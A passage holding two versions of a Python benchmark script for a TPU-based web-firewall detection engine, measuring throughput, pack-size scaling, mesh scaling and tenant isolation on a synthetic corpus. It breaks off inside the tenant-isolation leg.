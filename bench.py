"""Round benchmark — prints ONE JSON line (driver contract).

Headline metric (BASELINE.md north star): requests/second/chip running the
full bundled CRS-v3-shaped ruleset (~1.4k rules) over a realistic labeled
request corpus.  The measured program is the complete TPU detection step —
normalization rows scanned by the bitap engine + factor→rule→class verdict
heads — exactly what replaces the reference's in-process libproton call.

Timing method: the chip sits behind a network tunnel (70ms RTT, relay
caching of repeated dispatches), so we run K state-chained repetitions of
the batch inside ONE jit dispatch and report the K-difference
(see utils/microbench.py).  vs_baseline is value / 100_000 (the north-star
target; the reference publishes no numbers — BASELINE.json "published": {}).

Secondary diagnostics go to stderr; stdout carries only the JSON line.
"""

from __future__ import annotations

import functools
import json
import sys
import time

import numpy as np


def log(msg: str) -> None:
    print(msg, file=sys.stderr, flush=True)


def main() -> None:
    import jax
    import jax.numpy as jnp

    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.engine import EngineTables
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.ops.scan import pad_rows, scan_bytes
    from ingress_plus_tpu.serve.normalize import merge_rows, rows_for_requests
    from ingress_plus_tpu.utils.corpus import generate_corpus

    quick = "--quick" in sys.argv
    n_req = 256 if quick else 2048
    iters = 129 if quick else 65  # small batches need more reps for signal

    t0 = time.time()
    cr = compile_ruleset(load_bundled_rules())
    log("ruleset: %d rules, %d factors, %d words (compiled in %.1fs)"
        % (cr.n_rules, cr.tables.n_factors, cr.tables.n_words, time.time() - t0))

    corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=42)
    requests = [lr.request for lr in corpus]
    pipeline = DetectionPipeline(cr)  # reuse its row prep config
    rows = rows_for_requests(requests, needed_sv=pipeline.needed_sv)
    data_list, req_list, sv_list = merge_rows(rows)
    total_bytes = sum(len(d) for d in data_list)
    log("corpus: %d requests -> %d scan rows, %.2f scanned KB/request"
        % (n_req, len(data_list), total_bytes / n_req / 1024))

    # Length bucketing: corpus rows average ~0.3KB with a long tail; one
    # padded (B, 512) batch would be ~85% padding.  The serve batcher does
    # the same bucketing online.
    n_sv = cr.rule_sv_mask.shape[1]
    edges = DetectionPipeline.L_BUCKETS  # identical tiers to production
    buckets = {}
    for i, d in enumerate(data_list):
        for edge in edges:
            if len(d) <= edge or edge == edges[-1]:
                buckets.setdefault(edge, []).append(i)
                break
    tables = EngineTables.from_ruleset(cr)
    device_buckets = []
    for edge, idxs in sorted(buckets.items()):
        rows = [data_list[i][:edge] for i in idxs]
        tokens, lengths = pad_rows(rows, max_len=edge, round_to=edge)
        row_sv = np.zeros((len(rows), n_sv), np.int8)
        for j, i in enumerate(idxs):
            row_sv[j, sv_list[i]] = 1
        device_buckets.append((
            jax.device_put(tokens.astype(np.int32)),
            jax.device_put(lengths),
            jax.device_put(np.asarray([req_list[i] for i in idxs], np.int32)),
            jax.device_put(row_sv),
        ))
        log("bucket %4dB: %d rows" % (edge, len(rows)))

    from ingress_plus_tpu.models.engine import detect_rows

    @functools.partial(jax.jit, static_argnames=("k",))
    def detect_k(k: int):
        W = cr.tables.n_words

        # The returned value must depend on EVERY bucket's work, or XLA's
        # while-loop DCE deletes the untouched loop-carry chains and the
        # benchmark times a fraction of the workload (caught in review).
        def body(i, carry):
            acc, states = carry
            out = []
            for (tok, lens, rreq, rsv), (state, match) in zip(
                    device_buckets, states):
                rule_hits, class_hits, scores, match, state = detect_rows(
                    tables, tok, lens, rreq, rsv,
                    num_requests=n_req, state=state, match=match)
                out.append((state, match))
                acc = acc + match.sum() + rule_hits.sum().astype(jnp.uint32)
            return (acc, tuple(out))

        states = tuple(
            (jnp.zeros((b[0].shape[0], W), jnp.uint32),
             jnp.zeros((b[0].shape[0], W), jnp.uint32))
            for b in device_buckets)
        acc, _ = jax.lax.fori_loop(
            0, k, body, (jnp.zeros((), jnp.uint32), states))
        return acc

    def timed(k: int) -> float:
        jax.block_until_ready(detect_k(k))
        best = float("inf")
        for _ in range(3):
            t1 = time.perf_counter()
            jax.block_until_ready(detect_k(k))
            best = min(best, time.perf_counter() - t1)
        return best

    log("backend: %s, devices: %s" % (jax.default_backend(), jax.devices()))
    d_lo, d_hi = timed(1), timed(iters)
    while d_hi - d_lo < 0.2 and iters < 2048:  # signal must dwarf RTT jitter
        iters *= 4
        log("widening K to %d (diff %.1f ms too small)" % (iters, (d_hi - d_lo) * 1e3))
        d_hi = timed(iters)
    per_batch = (d_hi - d_lo) / (iters - 1)
    reqs_per_s = n_req / per_batch
    mb_per_s = total_bytes / per_batch / 1e6
    log("per-batch %.2f ms -> %.0f req/s/chip, %.0f MB/s scanned"
        % (per_batch * 1e3, reqs_per_s, mb_per_s))

    # quality cross-check on a sample (full pipeline incl. confirm, CPU)
    sample = corpus[:128]
    verdicts = pipeline.detect([lr.request for lr in sample])
    tp = sum(1 for lr, v in zip(sample, verdicts) if lr.is_attack and v.attack)
    fn = sum(1 for lr, v in zip(sample, verdicts) if lr.is_attack and not v.attack)
    fp = sum(1 for lr, v in zip(sample, verdicts) if not lr.is_attack and v.attack)
    log("quality sample (128 req): tp=%d fn=%d fp=%d" % (tp, fn, fp))

    print(json.dumps({
        "metric": "req/s/chip, full CRS-v3-shaped ruleset (TPU detect step, %d-req corpus)" % n_req,
        "value": round(reqs_per_s, 1),
        "unit": "req/s/chip",
        "vs_baseline": round(reqs_per_s / 100_000.0, 4),
    }))


if __name__ == "__main__":
    main()
