"""Round benchmark — prints ONE JSON line (driver contract).

Headline metric (BASELINE.md north star): requests/second/chip running the
full bundled CRS-v3-shaped ruleset (~1.4k rules) over a realistic labeled
request corpus.  The measured program is the complete TPU detection step —
normalization rows scanned by the bitap engine + factor→rule→class verdict
heads — exactly what replaces the reference's in-process libproton call.

Timing method: the chip sits behind a network tunnel (70ms RTT, relay
caching of repeated dispatches), so we run K state-chained repetitions of
the batch inside ONE jit dispatch and report the K-difference
(see utils/microbench.py).  vs_baseline is value / 100_000 (the north-star
target; the reference publishes no numbers — BASELINE.json "published": {}).

Secondary diagnostics go to stderr; stdout carries only the JSON line.
"""

from __future__ import annotations

import functools
import json
import os
import sys
import threading
import time

import numpy as np

# Persistent compilation cache (VERDICT round-2 item 1c): a tunnel
# reconnect or a re-run within the round reuses TPU executables instead
# of paying the 20-40s compile again.  Must be set before jax import —
# both here and in the probe subprocess (it inherits os.environ).
os.environ.setdefault("JAX_COMPILATION_CACHE_DIR",
                      os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                   ".jax_cache"))
os.environ.setdefault("JAX_PERSISTENT_CACHE_MIN_COMPILE_TIME_SECS", "2")


def log(msg: str) -> None:
    print(msg, file=sys.stderr, flush=True)


#: process-level probe verdict cache: r03–r05 each burned 120–180s PER
#: RETRY on a hung backend init, and a CPU-retry bench run (or the
#: pack-scale leg) re-probed the same dead tunnel.  One verdict per
#: process is enough — a tunnel that comes back mid-run helps nobody
#: once the executables are compiled for CPU.
_PROBE_CACHE: "tuple[str, str | None] | None" = None


def probe_backend(timeouts=(60, 90, 120), waits=(20, 40),
                  total_budget_s: float = 210.0):
    """Decide which backend to use WITHOUT risking the parent process.

    Round-1 failure modes of the axon (remote-TPU-tunnel) backend, both
    observed: fail fast with UNAVAILABLE at the first dispatch (BENCH_r01
    rc=1), and hang indefinitely during client init (MULTICHIP_r01
    rc=124).  An in-process try can't recover from the hang, so the probe
    runs ``jax.devices()`` in a THROWAWAY SUBPROCESS under a hard timeout;
    the parent only initializes a backend after the verdict is known.

    The ladder is CAPPED at ``total_budget_s`` wall-clock (an attempt
    only starts if it can finish inside the cap) and the verdict is
    cached for the process: a dead tunnel costs its timeout once, not
    once per leg/retry (r03–r05 burned 120–180s per retry re-probing
    the same outage).

    Returns (platform, error_string_or_None) and, on TPU failure, forces
    the parent's platform to CPU so the bench still produces a number.
    """
    global _PROBE_CACHE
    if _PROBE_CACHE is not None:
        log("TPU probe verdict cached: %s" % (_PROBE_CACHE,))
        return _PROBE_CACHE
    from ingress_plus_tpu.utils.platform import probe_backend_once

    # the ladder's worst case nearly fills the watchdog budget, and
    # jax + module imports already ran inside the armed window — re-arm
    # here so the final probe attempt cannot be killed by the watchdog
    _arm_watchdog()
    t_start = time.time()
    last_err = "unknown"
    for attempt, tmo in enumerate(timeouts):
        if attempt:
            wait = waits[min(attempt - 1, len(waits) - 1)]
            if time.time() - t_start + wait + tmo > total_budget_s:
                log("TPU probe ladder stopped: %.0fs cap reached"
                    % total_budget_s)
                break
            # spread retries across the probe budget (VERDICT round-3
            # item 1a): the r01-r03 hangs were transient tunnel states —
            # an outage that clears mid-bench still gets a live chip
            log("TPU probe retry %d/%d in %ds (last: %s)"
                % (attempt, len(timeouts) - 1, wait, last_err[:200]))
            time.sleep(wait)
        plat, err = probe_backend_once(tmo)
        if plat is not None:
            if plat == "cpu":
                _PROBE_CACHE = ("cpu", None)  # no TPU plugin at all
                return _PROBE_CACHE
            log("TPU probe ok (%s, %.0fs timeout headroom)" % (plat, tmo))
            _PROBE_CACHE = (plat, None)
            return _PROBE_CACHE
        last_err = err
    log("TPU backend unavailable; falling back to CPU (last: %s)" % last_err[:300])
    from ingress_plus_tpu.utils.platform import force_cpu_devices

    force_cpu_devices(1)
    _PROBE_CACHE = ("cpu", "tpu-unavailable: %s" % last_err[:300])
    return _PROBE_CACHE


def _probe_block(platform: str, backend_err: "str | None",
                 forced: "str | None" = None) -> dict:
    """The TPU-probe verdict as an artifact-HEADER block (ISSUE 13
    satellite): platform, device count and probe latency from the last
    subprocess probe — so a silently-CPU run is labeled loudly at the
    top of the BENCH json instead of discovered by reading
    ``platform: cpu`` at the bottom."""
    from ingress_plus_tpu.utils.platform import LAST_PROBE

    blk = {
        "platform": platform,
        "device_count": LAST_PROBE.get("device_count")
        if not forced else 1,
        "probe_s": LAST_PROBE.get("probe_s"),
        "error": backend_err,
    }
    if forced:
        blk["forced"] = forced
    if platform == "cpu":
        if backend_err:
            blk["note"] = ("CPU-FALLBACK RUN: the TPU probe failed — "
                           "every throughput number in this artifact "
                           "is a CPU proxy, not a per-chip claim")
        elif forced:
            blk["note"] = "explicit CPU run (%s)" % forced
        else:
            blk["note"] = ("no TPU plugin on this host — CPU numbers "
                           "are a proxy, not a per-chip claim")
    return blk


def _widen_k(timed, d_lo: float, d_hi: float, it: int, tag: str,
             budget_frac: float = 0.5, cap: int = 2048):
    """Grow K 4x at a time until the K-diff clears RTT jitter (0.2s) or
    the budget share runs out — the ONE widening loop shared by the
    live-pack and fixed-pack legs (review finding: two hand-synced
    copies).  The guard uses the measured MARGINAL cost, not d_lo: a
    tunnel-dominated d_lo (~70ms RTT, ~0.5ms compute) would block
    widening 100x too early.  Returns (d_hi, it)."""
    marginal = max((d_hi - d_lo) / (it - 1), 1e-6)
    while (d_hi - d_lo < 0.2 and it < cap
           and 4 * d_lo + 16 * it * marginal
           < _budget_left() * budget_frac):
        it *= 4
        log("[%s] widening K to %d (diff %.1f ms too small)"
            % (tag, it, (d_hi - d_lo) * 1e3))
        d_hi = timed(it)
        marginal = max((d_hi - d_lo) / (it - 1), 1e-6)
    return d_hi, it


def load_fixed_pack():
    """The FROZEN round-3 rule pack (VERDICT r04 item #3): the r03 conf
    tree plus the r03 sigpack generator, both committed verbatim under
    ``bench_fixtures/pack_r03/`` at commit 3c10aaf's content.  Compiles
    to exactly the pack BENCH_r03 measured — 1405 rules / 1233 factors /
    343 scan words — so a throughput number on it is comparable across
    rounds regardless of how the live pack grows (r04's 2.4x CPU drop
    was unattributable because only the current pack was measured).

    Compiled with ``ReductionConfig.off()``: the frozen leg must keep
    producing the BIT-IDENTICAL legacy tables r03 measured — the
    approximate reduction (compiler/reduce.py) applies to the live pack
    only, so the fixed leg keeps isolating code drift from pack size."""
    import importlib.util

    from ingress_plus_tpu.compiler.reduce import ReductionConfig
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import load_seclang_dir

    fix = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                       "bench_fixtures", "pack_r03")
    spec = importlib.util.spec_from_file_location(
        "bench_sigpack_r03", os.path.join(fix, "sigpack_r03.py"))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    rules = load_seclang_dir(os.path.join(fix, "crs"))
    return compile_ruleset(rules + mod.generate_signature_rules(),
                           reduction=ReductionConfig.off())


#: BENCH_r03.json's measured CPU anchor on this frozen pack (scan_impl
#: pair, 2048-req corpus) — the cross-round comparison point
R03_REFERENCE = {"req_per_s": 5013.3, "platform": "cpu",
                 "scan_impl": "pair"}


def bucket_rows_np(data_list, req_list, sv_list, n_sv, edges):
    """The ONE L-tier bucket/pad/row_sv assembly (numpy) shared by the
    live-pack, fixed-pack and PACKSCALE legs — mirrors
    DetectionPipeline.prefilter's bucketing so every leg measures the
    geometry the serving path actually dispatches (review finding:
    hand-synced copies of this drifted between legs once already)."""
    from ingress_plus_tpu.ops.scan import pad_rows

    bks: dict = {}
    for i, d in enumerate(data_list):
        for edge in edges:
            if len(d) <= edge or edge == edges[-1]:
                bks.setdefault(edge, []).append(i)
                break
    out = []
    for edge, idxs in sorted(bks.items()):
        rws = [data_list[i][:edge] for i in idxs]
        tokens, lengths = pad_rows(rws, max_len=edge, round_to=edge)
        row_sv = np.zeros((len(rws), n_sv), np.int8)
        for j, i in enumerate(idxs):
            row_sv[j, sv_list[i]] = 1
        out.append((edge, tokens, lengths,
                    np.asarray([req_list[i] for i in idxs], np.int32),
                    row_sv))
    return out


def fused_map_fold(tabs, matches, bufs, n_req: int):
    """Concatenate per-bucket sticky match words and run the
    factor→rule mapping ONCE — the shared core of every detect_k
    variant (docs/SCAN_KERNEL.md single-mapping contract; review
    finding: three near-copies of this fold risked drifting from the
    serving path).  Traced inside jit."""
    import jax.numpy as jnp

    from ingress_plus_tpu.models.engine import map_match_words

    rule_hits, _, _ = map_match_words(
        tabs, jnp.concatenate(matches, axis=0),
        jnp.concatenate([b[2] for b in bufs]),
        jnp.concatenate([b[3] for b in bufs]), n_req)
    return rule_hits


def run_pack_scale(scales=(0.5, 1.0, 1.5, 2.0), n_req: int = 1024,
                   out_path: str | None = None) -> dict:
    """PACKSCALE leg: compile synthetic packs at multiples of the
    bundled CRS-shaped ruleset (compiler/packgen.py growth model),
    measure fused-pair detect throughput per point, and write
    reports/PACKSCALE.json.  The 2x point is the pack-size-invariance
    gate: with interning + shared-prefix merging + budgeted reduction
    (docs/SCAN_KERNEL.md), 2x rules must cost < 1.5x throughput — a
    superlinear curve is warned about LOUDLY, never silently recorded.

    Per point the candidate inflation of the reduced tables over an
    exact compile is MEASURED on a corpus row sample (the budget is a
    model; the measurement is the truth the acceptance gate reads)."""
    import jax
    import jax.numpy as jnp

    from ingress_plus_tpu.compiler.packgen import scale_rules
    from ingress_plus_tpu.compiler.reduce import (
        ReductionConfig,
        measure_inflation,
    )
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.engine import EngineTables
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.ops.scan import scan_pairs
    from ingress_plus_tpu.serve.normalize import merge_rows, rows_for_requests
    from ingress_plus_tpu.utils.corpus import generate_corpus
    from ingress_plus_tpu.utils.microbench import best_time

    base = load_bundled_rules()
    corpus = generate_corpus(n=n_req, attack_fraction=0.2, seed=42)
    requests = [lr.request for lr in corpus]

    @functools.partial(jax.jit, static_argnames=("k",))
    def detect_k(k: int, tabs, bufs):
        W = tabs.scan.n_words

        def body(i, carry):
            acc, states = carry
            matches = []
            for (tok, lens, rreq, rsv), match in zip(bufs, states):
                match, _ = scan_pairs(tabs.scan, tok, lens, None, match)
                matches.append(match)
                acc = acc + match.sum()
            rule_hits = fused_map_fold(tabs, matches, bufs, n_req)
            return (acc + rule_hits.sum().astype(jnp.uint32),
                    tuple(matches))

        states = tuple(jnp.zeros((b[0].shape[0], W), jnp.uint32)
                       for b in bufs)
        acc, _ = jax.lax.fori_loop(
            0, k, body, (jnp.zeros((), jnp.uint32), states))
        return acc

    points = []
    sample_rows = None
    for scale in scales:
        if _budget_left() < 60:
            log("PACKSCALE: %.0fs budget left — stopping before %sx"
                % (_budget_left(), scale))
            break
        t0 = time.time()
        rules_s = scale_rules(base, scale)
        cr = compile_ruleset(rules_s)
        cr_exact = compile_ruleset(
            rules_s, reduction=ReductionConfig.off())
        pipe = DetectionPipeline(cr)
        rows = rows_for_requests(requests, needed_sv=pipe.needed_sv)
        data_list, req_list, sv_list = merge_rows(rows)
        if sample_rows is None:
            sample_rows = data_list[:512]
        infl = measure_inflation(cr_exact.tables, cr.tables, sample_rows)
        # close the provenance loop (ISSUE 15): the artifact's own
        # reduction block carries the MEASURED inflation next to the
        # modeled spend, so rulecheck/retune never read a None where a
        # measurement exists
        if cr.reduction is not None:
            cr.reduction["measured_inflation"] = infl["inflation"]
        n_sv = cr.rule_sv_mask.shape[1]
        bufs = tuple(
            (jax.device_put(tokens),   # uint8: raw-byte contract
             jax.device_put(lengths), jax.device_put(rreq),
             jax.device_put(row_sv))
            for _edge, tokens, lengths, rreq, row_sv in bucket_rows_np(
                data_list, req_list, sv_list, n_sv,
                DetectionPipeline.L_BUCKETS))
        tables = EngineTables.from_ruleset(cr)

        def timed(kk: int) -> float:
            return best_time(
                lambda k2, rep: detect_k(k2, tables, bufs), kk, n=4)

        # the 2x sublinearity gate sits near 1.5x, so each point needs a
        # LOW-variance estimate: best-of-4 and a K-diff of at least ~1s
        # of pure compute before we accept the number (run-to-run noise
        # on a busy 1-core host flipped the gate at a 0.2s target)
        d_lo = timed(1)
        it = max(5, min(65, int(max(15.0, _budget_left() * 0.12)
                                / (5 * max(d_lo, 1e-4)))))
        d_hi = timed(it)
        while (d_hi - d_lo < 1.0 and it < 257
               and 5 * (d_lo + it * max((d_hi - d_lo) / (it - 1), 1e-6))
               < _budget_left() * 0.3):
            it *= 2
            log("[packscale-%sx] widening K to %d (diff %.0f ms)"
                % (scale, it, (d_hi - d_lo) * 1e3))
            d_hi = timed(it)
        delta = d_hi - d_lo
        rps = n_req / (delta / (it - 1)) if delta > 0.05 else None
        point = {
            "scale": scale,
            "rules": int(cr.n_rules),
            "factors": int(cr.tables.n_factors),
            "words": int(cr.tables.n_words),
            "head_words": int(cr.tables.n_head_words),
            "factors_exact": int(cr_exact.tables.n_factors),
            "words_exact": int(cr_exact.tables.n_words),
            "req_per_s": round(rps, 1) if rps else None,
            "candidate_inflation": infl,
            "reduction": cr.reduction,
            "compile_s": round(time.time() - t0, 1),
        }
        points.append(point)
        log("PACKSCALE %.1fx: %d rules -> %d words (%d exact), "
            "%s req/s, inflation %s, lost=%d"
            % (scale, point["rules"], point["words"], point["words_exact"],
               point["req_per_s"], infl["inflation"],
               infl["lost_candidates"]))
        if infl["lost_candidates"]:
            log("PACKSCALE ERROR: reduced pack LOST %d candidates at "
                "%.1fx — the reduction is UNSOUND, fix before shipping"
                % (infl["lost_candidates"], scale))
        budget = (cr.reduction or {}).get("budget", 0.0)
        if budget and infl["inflation"] > budget:
            log("=" * 64)
            log("PACKSCALE WARNING: measured inflation %.3f at %.1fx "
                "EXCEEDS the configured budget %.2f (modeled spend "
                "%.3f) — the byte-frequency model underprices this "
                "corpus; feed a MeasuredProfile to the compiler "
                "(tools/retune.py) or lower the budget"
                % (infl["inflation"], scale, budget,
                   (cr.reduction or {}).get("spent", 0.0)))
            log("=" * 64)

    result = {"metric": "req/s vs pack scale (fused pair detect step, "
                        "%d-req corpus, CPU-or-live backend)" % n_req,
              # per-leg backend tag (ISSUE 13 satellite): numbers from
              # different backends must never be compared as a trend
              "platform": jax.default_backend(),
              "points": points}
    one = next((p for p in points if p["scale"] == 1.0
                and p["req_per_s"]), None)
    two = next((p for p in points if p["scale"] == 2.0
                and p["req_per_s"]), None)
    if one and two:
        slowdown = one["req_per_s"] / two["req_per_s"]
        result["scale_2x"] = {
            "rules_ratio": round(two["rules"] / one["rules"], 3),
            "slowdown": round(slowdown, 3),
            "sublinear": slowdown < 1.5,
        }
        if slowdown >= 1.5:
            log("=" * 64)
            log("PACKSCALE WARNING: SUPERLINEAR SCALING — 2x rules cost "
                "%.2fx throughput (gate: < 1.5x).  The pack-size-"
                "invariance claim does NOT hold on this build/host."
                % slowdown)
            log("=" * 64)
        else:
            log("PACKSCALE: 2x rules -> %.2fx slowdown (sublinear, "
                "gate < 1.5x)" % slowdown)
    else:
        log("PACKSCALE WARNING: missing 1x/2x points — the scaling "
            "curve is INCOMPLETE this round (budget or signal loss); "
            "the sublinearity gate was NOT evaluated")
    if out_path is None:
        out_path = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "reports", "PACKSCALE.json")
    try:
        os.makedirs(os.path.dirname(out_path), exist_ok=True)
        with open(out_path, "w") as f:
            json.dump(result, f, indent=2)
        log("PACKSCALE written to %s" % out_path)
    except OSError as e:
        log("PACKSCALE write failed (non-fatal): %r" % (e,))
    return result


def mesh_point_main(n_devices: int) -> None:
    """Subprocess entry for one mesh-scale point (``--mesh-point=K``):
    pin K virtual CPU devices (the device count is fixed at backend
    init, which is why every point needs its own interpreter), compile
    the bundled pack, run the lane-sharded serve measurement, and print
    the result dict as ONE JSON line (the parent collects it)."""
    from ingress_plus_tpu.utils.platform import force_cpu_devices

    force_cpu_devices(n_devices)
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.parallel.serve_mesh import run_lane_measurement

    cr = compile_ruleset(load_bundled_rules())
    n_req = int(os.environ.get("MESH_POINT_REQS", "1024"))
    m = run_lane_measurement(cr, n_lanes=n_devices, n_req=n_req,
                             max_batch=32, tier_warmup=False)
    print(json.dumps(m), flush=True)


def run_mesh_scale(points=(1, 2, 4, 8),
                   out_path: str | None = None) -> dict:
    """MESHSCALE leg (ISSUE 7): aggregate serve-plane req/s at 1/2/4/8
    simulated devices (``--xla_force_host_platform_device_count`` via a
    fresh subprocess per point), through the REAL lane-sharded batcher
    — the measured trajectory of ROADMAP item 2, not a smoke test.
    Writes reports/MESHSCALE.json; scaling efficiency at 8 devices
    below 0.7 is warned about LOUDLY, never silently recorded.  On a
    host with fewer cores than devices the virtual chips serialize and
    the warning explains WHY — the number is still honest."""
    import subprocess

    here = os.path.abspath(__file__)
    results = []
    for k in points:
        budget = _budget_left()
        if budget < 90:
            log("MESHSCALE: %.0fs budget left — stopping before %d "
                "devices" % (budget, k))
            break
        try:
            out = subprocess.run(
                [sys.executable, here, "--mesh-point=%d" % k],
                capture_output=True, text=True,
                timeout=max(90, min(300, budget - 10)))
        except subprocess.TimeoutExpired:
            log("MESHSCALE: %d-device point timed out (non-fatal)" % k)
            continue
        sys.stderr.write(out.stderr[-1500:])
        line = (out.stdout.strip().splitlines() or [""])[-1]
        if out.returncode != 0 or not line.startswith("{"):
            log("MESHSCALE: %d-device point rc=%d (non-fatal)"
                % (k, out.returncode))
            continue
        try:
            m = json.loads(line)
        except json.JSONDecodeError:
            # a point killed mid-write emits truncated JSON — skip the
            # point like every other per-point failure, never abort
            # the whole curve
            log("MESHSCALE: %d-device point emitted malformed JSON "
                "(non-fatal)" % k)
            continue
        results.append(m)
        log("MESHSCALE %d devices: %s req/s (util %s, recompiles %s)"
            % (k, m.get("req_per_s_mesh"),
               m.get("per_device_utilization"),
               m.get("serve_time_recompiles")))
    result = {
        "metric": "aggregate serve-plane req/s vs simulated device "
                  "count (lane-sharded batcher, bundled CRS pack, "
                  "virtual CPU devices)",
        # per-leg backend tag (ISSUE 13 satellite)
        "platform": "cpu-virtual",
        "host_cpus": os.cpu_count(),
        "points": results,
    }
    base = next((m for m in results
                 if m["n_lanes"] == 1 and m.get("req_per_s_mesh")), None)
    if base:
        scaling = {}
        for m in results:
            if not m.get("req_per_s_mesh"):
                continue
            k = m["n_lanes"]
            sp = m["req_per_s_mesh"] / base["req_per_s_mesh"]
            scaling[str(k)] = {"speedup": round(sp, 3),
                               "efficiency": round(sp / k, 3)}
        result["scaling"] = scaling
        eight = scaling.get("8")
        if eight is not None:
            result["efficiency_8dev"] = eight["efficiency"]
            if eight["efficiency"] < 0.7:
                log("=" * 64)
                log("MESHSCALE WARNING: scaling efficiency at 8 devices "
                    "is %.2f (gate: >= 0.7) — the mesh serve plane is "
                    "NOT near-linear on this host." % eight["efficiency"])
                if (os.cpu_count() or 1) < 8:
                    log("  (host has %d CPU core(s) for 8 virtual "
                        "devices: the simulated chips SERIALIZE — this "
                        "measures dispatch overhead, not chip-parallel "
                        "capacity; rerun on >=8 cores or a real mesh "
                        "for the capacity number)" % (os.cpu_count() or 1))
                log("=" * 64)
            else:
                log("MESHSCALE: 8-device efficiency %.2f (gate >= 0.7)"
                    % eight["efficiency"])
    else:
        log("MESHSCALE WARNING: no 1-device baseline point — the "
            "scaling curve is INCOMPLETE this round (budget or point "
            "failure); the efficiency gate was NOT evaluated")
    # confirm-stage share (docs/CONFIRM_PLANE.md): the serialized-
    # residue gauge — when the CPU confirm stage dominates the widest
    # point's pipeline time, more chips cannot raise mesh throughput
    # (Amdahl); the warning names the knob that can.
    widest = max((m for m in results if m.get("confirm_share")
                  is not None), key=lambda m: m["n_lanes"], default=None)
    if widest is not None:
        result["confirm_share_widest"] = widest["confirm_share"]
        if widest["confirm_share"] >= 0.5:
            log("=" * 64)
            log("MESHSCALE WARNING: CONFIRM BOUNDS MESH THROUGHPUT — "
                "the CPU confirm stage is %.0f%% of pipeline time at "
                "%d lanes (confirm workers: %s).  Adding chips cannot "
                "help past this point; raise --confirm-workers (the "
                "parallel confirm plane, docs/CONFIRM_PLANE.md) or "
                "improve quick-reject coverage."
                % (widest["confirm_share"] * 100, widest["n_lanes"],
                   widest.get("confirm_workers")))
            log("=" * 64)
        else:
            log("MESHSCALE: confirm share at %d lanes is %.0f%% "
                "(bound-warning gate: >= 50%%)"
                % (widest["n_lanes"], widest["confirm_share"] * 100))
    else:
        log("MESHSCALE WARNING: no point carried a confirm_share — "
            "the confirm-bound check was NOT evaluated this round")
    # measured overlap structure (ISSUE 12): every point carries the
    # flight recorder's pipeline_overlap; the widest point's block is
    # promoted and checked against the PR 7/9 design claims — a
    # contradiction is LOUD, never a silently-recorded number
    widest_po = max((m for m in results if m.get("pipeline_overlap")),
                    key=lambda m: m["n_lanes"], default=None)
    if widest_po is not None:
        from ingress_plus_tpu.utils.overlap import check_claims
        po = widest_po["pipeline_overlap"]
        result["pipeline_overlap_widest"] = po
        log("MESHSCALE overlap at %d lanes: scan<->confirm=%s "
            "drain_occ=%s critical=%s"
            % (widest_po["n_lanes"], po.get("scan_confirm_overlap"),
               po.get("drain_occupancy"),
               "/".join("%s:%d" % kv
                        for kv in (po.get("critical_path") or {})
                        .items())))
        for w in check_claims(po):
            log("=" * 64)
            log("MESHSCALE PIPELINE OVERLAP WARNING: %s" % w)
            log("=" * 64)
    else:
        log("MESHSCALE WARNING: no point carried a pipeline_overlap — "
            "the flight recorder measured nothing this round (overlap "
            "claims unverified)")
    if out_path is None:
        out_path = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "reports", "MESHSCALE.json")
    try:
        os.makedirs(os.path.dirname(out_path), exist_ok=True)
        with open(out_path, "w") as f:
            json.dump(result, f, indent=2)
        log("MESHSCALE written to %s" % out_path)
    except OSError as e:
        log("MESHSCALE write failed (non-fatal): %r" % (e,))
    return result


def run_tenant_iso(n_tenants: int = 100, phase_s: float = 6.0,
                   victim_rps: int = 120,
                   out_path: str | None = None) -> dict:
    """TENANTFAIR leg (ISSUE 10): victim-isolation measurement for the
    tenant-fair serve plane (docs/ROBUSTNESS.md "Tenant isolation").

    100+ simulated tenants send paced "victim" traffic through a real
    batcher (bundled CRS pack, CPU); one hostile tenant then floods
    flat-out.  The leg reports the victims' p50/p99 and goodput (real,
    un-degraded verdicts/s) in both phases: SOLO (no flood — the
    baseline) and FLOOD.  The isolation claim is quantitative: victim
    p99 within 25% of its solo baseline while the flooding tenant is
    being shed — inflation past that is warned about LOUDLY, never
    silently recorded.  Writes reports/TENANTFAIR.json."""
    import dataclasses

    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.models.pipeline import (
        DetectionPipeline, warm_sizes)
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.utils.corpus import generate_corpus

    log("TENANTFAIR: compiling the bundled pack...")
    cr = compile_ruleset(load_bundled_rules())
    pipeline = DetectionPipeline(cr, mode="block")
    b = Batcher(pipeline, max_batch=32, max_delay_s=0.0005,
                hard_deadline_s=0.25, tenant_queue_cap=64)
    base_reqs = [lr.request for lr in generate_corpus(n=512, seed=7)]
    log("TENANTFAIR: warming serve shapes...")
    for size in warm_sizes(32):
        pipeline.detect(base_reqs[:size])
    b.reset_latency_observations()
    hostile_tenant = n_tenants + 1

    def run_phase(flood: bool) -> dict:
        lock = threading.Lock()
        lat: list = []
        good = [0]
        hostile_sent = [0]
        hostile_curbed = [0]
        stop = threading.Event()

        def flooder():
            j = 0
            while not stop.is_set():
                for _ in range(64):
                    r = dataclasses.replace(
                        base_reqs[j % len(base_reqs)],
                        tenant=hostile_tenant,
                        request_id="h%d" % j)
                    fut = b.submit(r)

                    def _hb(f):
                        try:
                            v = f.result()
                        except Exception:
                            return
                        if v.fail_open or v.degraded:
                            with lock:
                                hostile_curbed[0] += 1
                    fut.add_done_callback(_hb)
                    j += 1
                hostile_sent[0] = j
                time.sleep(0.01)

        ft = None
        if flood:
            ft = threading.Thread(target=flooder, daemon=True,
